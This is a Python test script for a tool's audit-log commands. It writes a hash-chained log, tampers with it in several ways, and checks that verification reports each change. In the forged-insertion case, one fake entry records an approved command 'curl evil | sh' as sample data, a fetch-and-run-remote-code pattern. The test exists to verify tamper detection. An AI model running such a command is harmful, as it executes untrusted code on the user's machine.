#!/usr/bin/env python3
"""`cadre audit verify|show` on the real binary (stdlib only).

The log is written here, in Python, following the format in docs/cli.md byte
for byte (each line's prev is the SHA-256 of the previous line), so this also
pins the format against an independent writer. Then it is tampered with in
every way verify must name, and the exit codes and messages are checked, as
are show's filters and output. Usage:

    cli_audit_test.py --cadre build/cadre [-v]

Exit code 0 = pass, 1 = fail.
"""
import argparse
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile

ZEROS = "0" * 64
FAILURES = []
VERBOSE = False


def sha(line):
    return hashlib.sha256(line.encode("utf-8")).hexdigest()


def entry_line(seq, ts, kind, prev, fields):
    head = '{"seq":%d,"ts":"%s","kind":"%s","prev":"%s"' % (seq, ts, kind, prev)
    body = json.dumps(fields, separators=(",", ":"), ensure_ascii=False)
    return head + ("," + body[1:-1] if fields else "") + "}"


def build_log():
    """Eight entries, one of each kind (two commands), chained."""
    specs = [
        ("2026-11-20T09:00:00.000Z", "session", {"actor": "cli", "event": "start"}),
        ("2026-11-21T10:00:00.000Z", "model_request",
         {"actor": "agent", "model": "qwen2.5-coder:7b", "role": "planner", "inputTokens": 1200, "outputTokens": 300}),
        ("2026-11-21T10:00:05.000Z", "tool_call", {"actor": "agent", "tool": "read_file", "path": "src/a.py"}),
        ("2026-11-21T10:00:09.000Z", "approval", {"actor": "user", "decision": "approved", "command": "make test"}),
        ("2026-11-21T10:00:10.000Z", "command", {"actor": "agent", "command": "make test", "exitCode": 2}),
        ("2026-11-21T10:01:00.000Z", "edit_applied",
         {"actor": "agent", "files": [{"path": "src/a.py", "sha256Before": sha("old"), "sha256After": sha("new")}]}),
        ("2026-11-22T08:00:00.000Z", "command", {"actor": "agent", "command": "make", "exitCode": 0}),
        ("2026-11-22T08:30:00.000Z", "checkpoint_restore", {"actor": "user", "checkpoint": "c3", "paths": ["src/b.py"]}),
    ]
    lines, prev = [], ZEROS
    for i, (ts, kind, fields) in enumerate(specs, 1):
        line = entry_line(i, ts, kind, prev, fields)
        lines.append(line)
        prev = sha(line)
    return lines


class Project:
    def __init__(self, root, name):
        self.dir = os.path.join(root, name)
        self.log = os.path.join(self.dir, ".cadre", "audit.jsonl")
        os.makedirs(os.path.dirname(self.log))

    def write(self, lines, newline_at_end=True):
        with open(self.log, "w", encoding="utf-8", newline="") as f:
            f.write("\n".join(lines) + ("\n" if newline_at_end else ""))

    def read_bytes(self):
        with open(self.log, "rb") as f:
            return f.read()


def run(cadre, env, *args):
    p = subprocess.run([cadre, *args], env=env, capture_output=True, text=True, timeout=30)
    if VERBOSE:
        print("$ cadre " + " ".join(args) + f"  -> {p.returncode}\n{p.stdout}{p.stderr}", file=sys.stderr)
    return p


def check(cond, what, p=None):
    if not cond:
        detail = f"\n  exit {p.returncode}\n  stdout: {p.stdout!r}\n  stderr: {p.stderr!r}" if p is not None else ""
        FAILURES.append(what + detail)


def expect_verify(cadre, env, project, rc, *needles, args=()):
    p = run(cadre, env, "audit", "verify", project.dir, *args)
    check(p.returncode == rc, f"verify exits {rc}", p)
    for n in needles:
        check(n in p.stdout, f"verify output contains {n!r}", p)
    return p


def main():
    global VERBOSE
    ap = argparse.ArgumentParser()
    ap.add_argument("--cadre", required=True)
    ap.add_argument("-v", action="store_true")
    opts = ap.parse_args()
    VERBOSE = opts.v
    cadre = os.path.abspath(opts.cadre)

    tmp = tempfile.mkdtemp(prefix="cadre-cli-audit-")
    try:
        env = {k: v for k, v in os.environ.items() if not k.startswith("CADRE_")}
        for var, sub in (("HOME", "home"), ("XDG_STATE_HOME", "state"), ("XDG_CONFIG_HOME", "config"),
                         ("XDG_CACHE_HOME", "cache"), ("XDG_DATA_HOME", "data")):
            env[var] = os.path.join(tmp, sub)
            os.makedirs(env[var])
        lines = build_log()
        counter = [0]

        def fresh(tampered=None, newline_at_end=True):
            counter[0] += 1
            project = Project(tmp, f"p{counter[0]}")
            project.write(tampered if tampered is not None else lines, newline_at_end)
            return project

        # --- help and usage ----------------------------------------------------
        for args in (("audit", "--help"), ("audit", "verify", "--help"), ("audit", "show", "--help")):
            p = run(cadre, env, *args)
            check(p.returncode == 0 and p.stdout.startswith("Usage: cadre audit"), f"{' '.join(args)} prints usage", p)
        for args in (("audit",), ("audit", "bogus"), ("audit", "verify", "--bogus"), ("audit", "show", "--kind", "nope"),
                     ("audit", "show", "--since", "yesterday"), ("audit", "show", "--limit", "x")):
            p = run(cadre, env, *args)
            check(p.returncode == 2 and p.stderr.startswith("cadre: "), f"{' '.join(args)} is a usage error", p)
        p = run(cadre, env, "--help")
        check("audit verify|show" in p.stdout and "audit verify|show                   the audit trail\n" in p.stdout,
              "cadre --help lists audit as available", p)

        # --- an intact log -----------------------------------------------------
        intact = fresh()
        before = intact.read_bytes()
        expect_verify(cadre, env, intact, 0, "audit: 8 entries, chain intact")
        p = run(cadre, env, "audit", "verify", intact.dir, "--json")
        report = json.loads(p.stdout)
        check(p.returncode == 0 and report["ok"] is True and report["entries"] == 8 and report["problems"] == [],
              "verify --json on an intact log", p)
        check(report["anchor"].startswith(env["XDG_STATE_HOME"] + "/cadre/") and report["anchor"].endswith("/audit-anchor"),
              "the default anchor lives in $XDG_STATE_HOME/cadre/<project>/", p)
        check(intact.read_bytes() == before, "verify does not touch the log")
        p = run(cadre, env, "audit", "verify", cwd_dir := intact.dir)
        check(p.returncode == 0, "verify with DIR", p)
        p = subprocess.run([cadre, "audit", "verify"], env=env, cwd=cwd_dir, capture_output=True, text=True, timeout=30)
        check(p.returncode == 0 and "chain intact" in p.stdout, "verify defaults to the current directory", p)

        # --- each kind of tampering ---------------------------------------------
        edited = list(lines)
        edited[4] = edited[4].replace('"make test"', '"make deploy"')
        expect_verify(cadre, env, fresh(edited), 1,
                      "line 5 (seq 5): edited — entry seq 5 (line 5) was changed after it was written",
                      "audit: 8 entries, 1 problem")

        removed = lines[:3] + lines[4:]
        expect_verify(cadre, env, fresh(removed), 1, "line 4: removed — entry seq 4 is missing")

        forged = entry_line(4, "2026-11-21T10:00:08.000Z", "approval", sha(lines[2]),
                            {"actor": "user", "decision": "approved", "command": "curl evil | sh"})
        inserted = lines[:3] + [forged] + lines[3:]
        p = expect_verify(cadre, env, fresh(inserted), 1, "line 4 (seq 4): inserted — ")
        check(p.stdout.count(" — ") == 1, "a forged line with a plausible prev is the only problem", p)

        swapped = list(lines)
        swapped[5], swapped[6] = swapped[6], swapped[5]
        p = expect_verify(cadre, env, fresh(swapped), 1, "line 6 (seq 7): reordered — entry seq 7 (line 6) is out of order")
        check(p.stdout.count(" — ") == 1, "a swap is one problem", p)

        garbage = lines[:2] + ["not json at all"] + lines[2:]
        expect_verify(cadre, env, fresh(garbage), 1, "line 3: malformed — line 3 is not a valid audit entry")

        p = expect_verify(cadre, env, fresh(lines, newline_at_end=False), 0, "chain intact")

        several = list(lines)
        several[1] = several[1].replace("planner", "reviewer")  # edited: seq 2
        del several[4]                                          # removed: seq 5
        several.insert(6, "{oops")                              # malformed
        p = expect_verify(cadre, env, fresh(several), 1, "edited —", "removed —", "malformed —", "3 problems")
        out = p.stdout.splitlines()
        check(len(out) == 4 and out[0].startswith("line 2 (seq 2): edited") and out[1].startswith("line 5: removed")
              and out[2].startswith("line 7: malformed"), "every problem is reported, in line order", p)

        p = run(cadre, env, "audit", "verify", fresh(edited).dir, "--json")
        report = json.loads(p.stdout)
        check(p.returncode == 1 and not report["ok"] and report["problems"][0]["kind"] == "edited"
              and report["problems"][0]["line"] == 5 and report["problems"][0]["seq"] == 5, "verify --json names the problem", p)

        # --- tail truncation, via the default anchor and via --anchor ----------------
        cut = fresh()
        anchor_path = json.loads(run(cadre, env, "audit", "verify", cut.dir, "--json").stdout)["anchor"]
        os.makedirs(os.path.dirname(anchor_path), exist_ok=True)
        with open(anchor_path, "w") as f:
            f.write(json.dumps({"seq": 8, "hash": sha(lines[7])}))
        expect_verify(cadre, env, cut, 0, "chain intact")  # the anchor agrees
        cut.write(lines[:6])
        p = expect_verify(cadre, env, cut, 1, "truncated — the log ends at seq 6 but the anchor says 8", anchor_path)
        own_anchor = os.path.join(tmp, "elsewhere-anchor")
        with open(own_anchor, "w") as f:
            f.write(json.dumps({"seq": 8, "hash": sha(lines[7])}))
        expect_verify(cadre, env, fresh(lines[:7]), 1, "the log ends at seq 7 but the anchor says 8",
                      args=("--anchor", own_anchor))
        last_edited = lines[:7] + [lines[7].replace('"c3"', '"c1"')]
        expect_verify(cadre, env, fresh(last_edited), 0, "chain intact")  # nothing follows it…
        expect_verify(cadre, env, fresh(last_edited), 1, "line 8 (seq 8): edited", args=("--anchor", own_anchor))  # …but the anchor knows
        p = run(cadre, env, "audit", "verify", intact.dir, "--anchor", os.path.join(tmp, "missing-anchor"))
        check(p.returncode == 2 and "no anchor at" in p.stderr, "a missing --anchor file is an error", p)

        # --- no log --------------------------------------------------------------
        empty = os.path.join(tmp, "empty")
        os.makedirs(empty)
        p = run(cadre, env, "audit", "verify", empty)
        check(p.returncode == 0 and p.stdout.startswith("no audit log at "), "no log: nothing recorded, exit 0", p)
        p = run(cadre, env, "audit", "verify", os.path.join(tmp, "nope"))
        check(p.returncode == 2 and "not a directory" in p.stderr, "verify of a missing directory", p)
        p = run(cadre, env, "audit", "show", empty)
        check(p.returncode == 0 and p.stdout == "" and "no audit log at" in p.stderr, "show without a log", p)

        # --- show --------------------------------------------------------------
        p = run(cadre, env, "audit", "show", intact.dir)
        rows = p.stdout.splitlines()
        check(p.returncode == 0 and len(rows) == 9 and rows[0].startswith("TIME (UTC)") and "SUMMARY" in rows[0],
              "show prints a header and one row per entry", p)
        check(any(r.startswith("2026-11-21 10:00:10") and "command" in r and "$ make test" in r and "exit 2" in r for r in rows),
              "a command row shows the command and its exit code", p)
        check(any("edit_applied" in r and "src/a.py" in r for r in rows), "an edit row shows its files", p)
        check(any("approval" in r and "approved" in r and " user " in r for r in rows), "an approval row shows who and the decision", p)

        def show_json(*args):
            p = run(cadre, env, "audit", "show", intact.dir, "--json", *args)
            check(p.returncode == 0, f"show --json {' '.join(args)}", p)
            return [json.loads(l) for l in p.stdout.splitlines()]

        got = show_json("--kind", "command")
        check([e["seq"] for e in got] == [5, 7] and all(e["kind"] == "command" for e in got), "show --kind command")
        check(got and got[0]["command"] == "make test" and got[0]["exitCode"] == 2 and got[0]["prev"] == sha(lines[3]),
              "show --json gives the entries' fields")
        check([e["seq"] for e in show_json("--kind", "approval", "--kind", "session")] == [1, 4], "repeated --kind")
        check([e["seq"] for e in show_json("--kind", "approval,session")] == [1, 4], "comma-separated --kind")
        check([e["seq"] for e in show_json("--file", "src/a.py")] == [3, 6], "show --file")
        check([e["seq"] for e in show_json("--file", os.path.join(intact.dir, "src"))] == [3, 6, 8],
              "show --file with an absolute directory inside DIR")
        check([e["seq"] for e in show_json("--since", "2026-11-21", "--until", "2026-11-21")] == [2, 3, 4, 5, 6],
              "show --since/--until with a day")
        check([e["seq"] for e in show_json("--since", "2026-11-21 10:00:09Z", "--until", "2026-11-22T08:00")] == [4, 5, 6, 7],
              "show --since/--until with times")
        check([e["seq"] for e in show_json("--limit", "2")] == [7, 8], "show --limit keeps the newest")
        check(len(show_json("--since", "36500d")) == 8, "show --since a duration back from now")
        p = run(cadre, env, "audit", "show", intact.dir, "--kind", "policy_denied")
        check(p.returncode == 0 and p.stdout.strip() == "no matching entries", "show with nothing matching", p)
        p = run(cadre, env, "audit", "show", fresh(garbage).dir, "--json")
        check(p.returncode == 0 and len(p.stdout.splitlines()) == 8, "show skips malformed lines", p)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)

    for f in FAILURES:
        print("FAIL: " + f, file=sys.stderr)
    if not FAILURES:
        print("cli/audit: all checks passed")
    return 1 if FAILURES else 0


if __name__ == "__main__":
    sys.exit(main())
